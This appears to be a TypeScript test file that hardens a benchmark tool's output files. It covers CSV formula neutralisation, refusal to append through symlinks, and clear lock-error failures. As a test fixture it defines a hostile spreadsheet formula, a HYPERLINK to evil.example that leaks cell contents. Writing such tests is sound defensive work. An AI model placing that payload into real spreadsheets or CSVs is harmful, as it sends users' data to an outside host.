// Files in OUTPUT_PATH against a hostile neighbour: CSV fields cannot become spreadsheet formulas, appends
// never follow a symlink, replaced files (report, results JSON) replace the link instead of writing
// through it, and lock errors that no wait can fix fail at once.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { RunLock } from '../../../src/broker/run-lock.js';
import { withRetries } from '../../../src/broker/write-ahead.js';
import { appendPerfRows, perfCsvPath, readPerfCsvText } from '../../../src/results/csv.js';
import { historyPath, recordJobPart } from '../../../src/results/history.js';
import { perfRowsFor } from '../../../src/results/perf-rows.js';
import { writeResultsJson } from '../../../src/results/results-json.js';
import { neutraliseCsvField, unneutraliseCsvField } from '../../../src/util/csv-formula.js';
import { lockFile } from '../../../src/util/file-lock.js';

let out: string;
beforeEach(() => {
  out = fs.mkdtempSync(path.join(os.tmpdir(), 'output-hardening-'));
});
afterEach(() => fs.rmSync(out, { recursive: true, force: true }));

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const rowsWith = (metricNames: string[], value = 1.5) =>
  perfRowsFor({
    testId: 'disagg_perf_x',
    category: 'perf',
    testType: 'disagg',
    blocks: [
      {
        concurrency: 4,
        completed: true,
        warmup: false,
        metrics: Object.fromEntries(metricNames.map((m) => [m, value])),
      },
    ],
    metricNames,
    config: { metadata: { model_name: '@model', precision: 'fp8' } },
  });

describe('CSV formula neutralisation', () => {
  it('a leading = + - @ tab or CR gets a quote; numbers (-1.5) and plain text do not', () => {
    for (const s of ['=1+1', '+cmd', '-x', '@SUM(A1)', '\tx', '\rx'])
      expect(neutraliseCsvField(s)).toBe(`'${s}`);
    expect(neutraliseCsvField('-1.5')).toBe('-1.5');
    expect(neutraliseCsvField('+3e-5')).toBe('+3e-5');
    expect(neutraliseCsvField(-1.5)).toBe(-1.5);
    expect(neutraliseCsvField('SERVER_MEDIAN_TTFT')).toBe('SERVER_MEDIAN_TTFT');
    // Exactly reversible, a text that starts with a quote before a trigger included.
    for (const s of ['=x', "'=x", "''@y", 'plain', "'plain"])
      expect(unneutraliseCsvField(String(neutraliseCsvField(s)))).toBe(s);
  });

  it('a hostile metric name is written as text, numbers stay numbers, and our reader gets the name back', async () => {
    const csv = perfCsvPath(out);
    await appendPerfRows(csv, rowsWith([HOSTILE, 'median_ttft_ms'], -1.5));
    const text = fs.readFileSync(csv, 'utf8');
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    const cells = parsed.flatMap((r) => Object.values(r));
    // No cell a spreadsheet would evaluate: none starts with a trigger unless it is a number.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !Number.isFinite(Number(c)))).toEqual([]);
    expect(parsed[0]?.metric_type).toBe(`'${HOSTILE}`);
    expect(parsed[0]?.perf_metric).toBe('-1.5');
    expect(parsed[0]?.command).toBe('disagg_benchmark --model=@model --fp8 --concurrency=4');
    expect(readPerfCsvText(text, csv).map((r) => [r.metric, r.value])).toEqual([
      [HOSTILE, -1.5],
      ['median_ttft_ms', -1.5],
    ]);
  });
});

describe('no append through a symlink in OUTPUT_PATH', () => {
  it('the perf CSV: refused with a message, the link target untouched', async () => {
    const target = path.join(out, 'elsewhere.txt');
    fs.writeFileSync(target, '');
    fs.symlinkSync(target, perfCsvPath(out));
    await expect(appendPerfRows(perfCsvPath(out), rowsWith(['median_ttft_ms']))).rejects.toThrow(
      /perf_script_test_results\.csv is a symlink: appends to the output dir never follow one/,
    );
    expect(fs.readFileSync(target, 'utf8')).toBe('');
  });

  it('history.jsonl: refused with a message, the link target untouched', async () => {
    const target = path.join(out, 'elsewhere.txt');
    fs.writeFileSync(target, '');
    fs.symlinkSync(target, historyPath(out));
    const rec = { test: 't', endTime: '2026-01-01T00:00:00Z', passed: true, metrics: {}, jobId: '1' };
    await expect(recordJobPart(out, rec, 'perf')).rejects.toThrow(/history\.jsonl is a symlink/);
    expect(fs.readFileSync(target, 'utf8')).toBe('');
  });

  it('a results JSON at a symlink is replaced, not written through', async () => {
    const target = path.join(out, 'elsewhere.txt');
    fs.writeFileSync(target, 'keep');
    const logDir = path.join(out, 'job');
    fs.mkdirSync(logDir);
    const written = await writeResultsJson(logDir, { a: 1 });
    fs.rmSync(written);
    fs.symlinkSync(target, written);
    await writeResultsJson(logDir, { a: 2 });
    expect(fs.lstatSync(written).isSymbolicLink()).toBe(false);
    expect(fs.readFileSync(target, 'utf8')).toBe('keep');
  });
});

describe('fast, clear failures', () => {
  it('a lock error no wait can fix (ENOTDIR) fails at once, naming the lock', async () => {
    const notDir = path.join(out, 'file');
    fs.writeFileSync(notDir, '');
    let waits = 0;
    await expect(
      lockFile(path.join(notDir, 'history.jsonl'), {
        stale: 30_000,
        retries: 400,
        minTimeout: 5,
        maxTimeout: 200,
        sleep: async () => void waits++,
      }),
    ).rejects.toThrow(/cannot take the lock .*history\.jsonl\.lock .*\(ENOTDIR\)\. Nothing was written/);
    expect(waits).toBe(0);
  });

  it('a lock held by another process is waited on, then named', async () => {
    const file = path.join(out, 'x.csv');
    const release = await lockFile(file, { stale: 30_000, retries: 0, minTimeout: 1, maxTimeout: 1 });
    let waits = 0;
    await expect(
      lockFile(file, {
        stale: 30_000,
        retries: 3,
        minTimeout: 1,
        maxTimeout: 1,
        sleep: async () => void waits++,
      }),
    ).rejects.toThrow(/x\.csv stayed locked by another process .* through 4 attempts/);
    expect(waits).toBe(3);
    await release();
  });

  it('a ledger write that failed with EROFS or ENOSPC is not retried; a held lock is', async () => {
    for (const code of ['EROFS', 'ENOSPC', 'EACCES']) {
      let calls = 0;
      const write = async () => {
        calls++;
        throw Object.assign(new Error(`${code}: nope`), { code });
      };
      await expect(withRetries(write, 5, 1)).rejects.toThrow(code);
      expect(calls, code).toBe(1);
    }
    let calls = 0;
    const held = async () => {
      calls++;
      throw Object.assign(new Error('held'), { code: 'ELOCKED' });
    };
    await expect(withRetries(held, 3, 1)).rejects.toThrow('held');
    expect(calls).toBe(3);
  });

  it('a run lock path that is a directory gets a clear message, not "other runs keep taking it"', () => {
    fs.mkdirSync(path.join(out, '.disagg-run.lock'));
    expect(() => RunLock.acquire(out, 'r1', () => undefined)).toThrow(
      /\.disagg-run\.lock is a directory, not a regular file.*remove it \(rm -r/,
    );
  });
});
